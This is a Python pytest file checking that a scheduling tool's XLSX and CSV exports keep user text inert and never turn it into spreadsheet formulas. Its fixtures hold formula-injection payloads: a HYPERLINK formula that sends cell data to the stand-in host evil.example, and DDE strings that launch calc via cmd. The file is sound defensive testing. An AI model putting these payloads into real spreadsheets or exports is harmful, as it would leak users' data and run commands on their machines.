"""Exports are inert (issue 13, item 7): user text never becomes a spreadsheet formula.

Files are written by the real commands and read back: XLSX with openpyxl and as raw
XML (no ``<f>`` element anywhere), CSV with the csv module (OWASP's leading
apostrophe on cells starting with = + - @ tab or CR; other cells unchanged).
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from solver.io.render.inert import csv_cell, is_dangerous
from solver.io.render.xlsx import render_xlsx
from solver.load.scenario import load_scenario
from solver.stageplan import main

EVIL_ID = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
EVIL_NAME = "+cmd|' /C calc'!A0"
ID_YAML = EVIL_ID.replace("'", "''")
SCENARIO = f"""programme: bts-ci
label: "@SUM(1+1)*cmd|' /C calc'!A0"
calendar: {{zone: A, start: 2025-09-01, end: 2027-06-30}}
students:
  - id: '{ID_YAML}'
    name: "{EVIL_NAME}"
    periods:
      - {{from: 2026-05-18, weeks: 6, place: abroad, country: DE}}
      - {{from: 2027-01-04, weeks: 8, place: france}}
  - id: "-2+3"
    name: "@Zoé"
  - id: S03
    name: "Léa Dubois"
"""


def cli(*args: str) -> int:
    res = CliRunner().invoke(main, [*args, "--lang", "en"])
    assert res.exception is None or isinstance(res.exception, SystemExit), res.exception
    return res.exit_code


@pytest.mark.parametrize("value, dangerous", [
    ("=1+1", True), ("+1", True), ("-1", True), ("@A1", True), ("\t=1", True),
    ("\r=1", True), ("S01", False), ("", False), ("Zoé = 1", False), (-3, False),
    (2.5, False), (None, False),
])
def test_dangerous_starts(value: object, dangerous: bool) -> None:
    assert is_dangerous(value) is dangerous
    assert csv_cell(value) == ("'" + str(value) if dangerous else value)


def check_workbook(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if is_dangerous(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_generated_xlsx_keeps_user_text_as_text(tmp_path: Path) -> None:
    src = tmp_path / "classe.yaml"
    src.write_text(SCENARIO, encoding="utf-8")
    out = tmp_path / "classe.xlsx"
    assert cli("generate", str(src), "--format", "xlsx", "-o", str(out),
               "--time-limit", "10") == 0
    texts = check_workbook(out.read_bytes())
    # the very text, not a formula, in the grid and in the list of periods
    # (issue 20: the name and the id in their own cells; « NAME (ID) » in the periods)
    assert EVIL_ID in texts and EVIL_NAME in texts and f"{EVIL_NAME} ({EVIL_ID})" in texts
    assert "-2+3" in texts and "@Zoé" in texts


def test_plan_xlsx_of_the_web_download_is_inert(tmp_path: Path) -> None:
    src = tmp_path / "plan.yaml"
    src.write_text(SCENARIO, encoding="utf-8")
    texts = check_workbook(render_xlsx(load_scenario(src), "fr"))
    assert any(t.startswith(EVIL_ID) for t in texts)


def test_batch_csv_cells_are_inert(tmp_path: Path) -> None:
    folder = tmp_path / "classes"
    folder.mkdir()
    (folder / "=cmd.yaml").write_text(SCENARIO, encoding="utf-8")
    (folder / "@broken.yaml").write_text("programme: [", encoding="utf-8")
    out = tmp_path / "summary.csv"
    assert cli("batch", str(folder), "--verify-only", "--csv", str(out)) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert len(rows) == 2
    for row in rows:
        for value in row.values():
            assert not is_dangerous(value), row
    by_status = {r["status"]: r for r in rows}
    good, bad = by_status["verified"], by_status["error"]
    assert good["file"].startswith("'=cmd.yaml") or good["file"].endswith("=cmd.yaml")
    assert good["label"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert good["non_compliant"] == "'-2+3 S03"   # S01 (the formula id) complies
    assert good["students"] == "3"   # numbers untouched
    assert "@broken.yaml" in bad["file"]


def test_batch_report_files_are_inert(tmp_path: Path) -> None:
    """The rolled-up report of ``batch --report`` (French CSVs and rapport.xlsx)."""
    folder = tmp_path / "classes"
    folder.mkdir()
    (folder / "=cmd.yaml").write_text(SCENARIO, encoding="utf-8")
    report = tmp_path / "rapport"
    assert cli("batch", str(folder), "--verify-only", "--executor", "serial",
               "--report", str(report), "-o", str(tmp_path / "out.txt")) == 0
    texts = check_workbook((report / "rapport.xlsx").read_bytes())
    assert any("=cmd.yaml" in t for t in texts) and any("@SUM(1+1)" in t for t in texts)
    cells = []
    for table in sorted(report.glob("*.csv")):
        rows = list(csv.reader(table.open(encoding="utf-8-sig", newline=""), delimiter=";"))
        cells += [value for row in rows for value in row]
    assert cells and not [v for v in cells if is_dangerous(v)]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells   # the class's label, made inert
